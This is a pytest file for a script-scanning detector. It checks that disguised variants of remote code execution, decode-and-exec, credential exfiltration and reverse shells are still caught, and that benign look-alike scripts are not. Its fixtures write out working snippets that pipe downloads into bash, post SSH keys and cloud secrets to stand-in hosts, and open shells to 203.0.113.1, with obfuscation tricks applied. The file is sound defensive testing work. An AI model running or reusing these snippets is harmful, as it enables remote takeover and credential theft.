"""Evasion set: each dangerous shape rewritten (alias, helper function, split string, variable
indirection) is still caught; look-alike benign scripts are not."""
from __future__ import annotations

import pytest

from script_helpers import script_rules

SHAPES = {
    "remote-exec": ("IG701", [
        ("alias.py", "import urllib.request as r\nimport builtins as b\nb.exec(r.urlopen('https://x.example/a').read())\n"),
        ("helper.py", "import requests\ndef grab(u):\n    return requests.get(u).text\ndef run(c):\n    exec(c)\nrun(grab('https://x.example/p'))\n"),
        ("split.py", "import os\nf = getattr(os, 'po' + 'pen')\nf('cu' + 'rl -s https://x.example/a | ba' + 'sh')\n"),
        ("indirect.sh", "fetch=curl\nsrc='https://x.example/i'\nrunner=bash\n$fetch -fsSL \"$src\" | $runner\n"),
        ("indirect2.sh", "out=$(wget -qO- https://x.example/p)\nbash -c \"$out\"\n"),
        ("alias.js", "const { execSync: go } = require('child_process');\ngo('curl -s https://x.example/a | sh');\n"),
    ]),
    "decode-exec": ("IG702", [
        ("alias.py", "from base64 import b64decode as d\nimport builtins\nbuiltins.eval(d('cHJpbnQoMSk='))\n"),
        ("helper.py", "import codecs\ndef unwrap(s):\n    return codecs.decode(s, 'rot13')\nexec(unwrap('cevag(1)'))\n"),
        ("indirect.py", "import base64\nblob = 'cHJpbnQoMSk='\nraw = base64.b64decode(blob)\ncode = raw.decode()\nexec(code)\n"),
        ("indirect.sh", "p=$(echo ZWNobyBoaQ== | base64 -d)\neval \"$p\"\n"),
        ("split.js", "const s = Buffer.from(x, 'bas' + 'e64').toString();\neval(s);\n"),
    ]),
    "credential-exfil": ("IG703", [
        ("alias.py", "import os\nimport requests as rq\nrq.post('https://c.example', data=open(os.path.expanduser('~/.aws/credentials')).read())\n"),
        ("helper.py", "import os, urllib.request\ndef tok():\n    return os.getenv('GITHUB_TOKEN')\ndef up(x):\n    urllib.request.urlopen('https://c.example/?d=' + x)\nup(tok())\n"),
        ("split.py", "import os, requests\np = os.path.expanduser('~/' + '.ss' + 'h/id_rsa')\nrequests.put('https://c.example/k', data=open(p).read())\n"),
        ("indirect.sh", "f=$HOME/.ssh/id_rsa\ncurl -s --data-binary @$f https://c.example/k\n"),
        ("container.py", "import os, requests\nloot = []\nloot.append(os.environ['AWS_SECRET_ACCESS_KEY'])\nrequests.post('https://c.example', json=loot)\n"),
    ]),
    "reverse-shell": ("IG704", [
        ("alias.py", "import socket as so, os as o, pty as p\nc = so.socket()\nc.connect(('203.0.113.1', 4444))\no.dup2(c.fileno(), 0)\np.spawn('/bin/sh')\n"),
        ("helper.py", "import socket, subprocess\ndef link():\n    s = socket.create_connection(('203.0.113.1', 4444))\n    return s\nk = link()\nsubprocess.Popen(['/bin/sh', '-i'], stdin=k.fileno(), stdout=k.fileno())\ns2 = socket.socket()\ns2.connect(('203.0.113.1', 1))\n"),
        ("indirect.sh", "h=203.0.113.1\np=4444\nbash -i >& /dev/tcp/$h/$p 0>&1\n"),
        ("nc.sh", "n=nc\n$n -e /bin/bash 203.0.113.1 4444\n"),
    ]),
}

LOOKALIKES = [
    ("fetch_json.py", "import requests\ndata = requests.get('https://api.example.com/items').json()\nprint(len(data))\n"),
    ("decode_img.py", "import base64\nwith open('out.png', 'wb') as f:\n    f.write(base64.b64decode(PNG))\n"),
    ("eval_literal.py", "import ast\nvalue = ast.literal_eval(open('cfg.txt').read())\n"),
    ("auth_header.py", "import os, requests\nrequests.get('https://api.github.com/user', headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})\n"),
    ("local_socket.py", "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 8080))\ns.listen()\n"),
    ("installer.sh", "curl -fsSLo node.tgz https://nodejs.org/dist/v20.0.0/node.tgz\ntar xzf node.tgz\n"),
    ("agent.sh", 'eval "$(ssh-agent -s)"\nssh-add ~/.ssh/id_ed25519\n'),
    ("decode_cert.sh", 'echo "$CERT_B64" | base64 -d > cert.pem\n'),
    ("fetch.js", "const res = await fetch('https://api.example.com');\nconst body = await res.json();\nconsole.log(body);\n"),
]


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_each_shape_has_at_least_three_rewrites_all_caught(shape):
    rule_id, variants = SHAPES[shape]
    assert len(variants) >= 3
    missed = [path for path, text in variants if rule_id not in script_rules(path, text)]
    assert missed == []


@pytest.mark.parametrize("path,text", LOOKALIKES)
def test_lookalikes_stay_quiet(path, text):
    assert script_rules(path, text) == set()
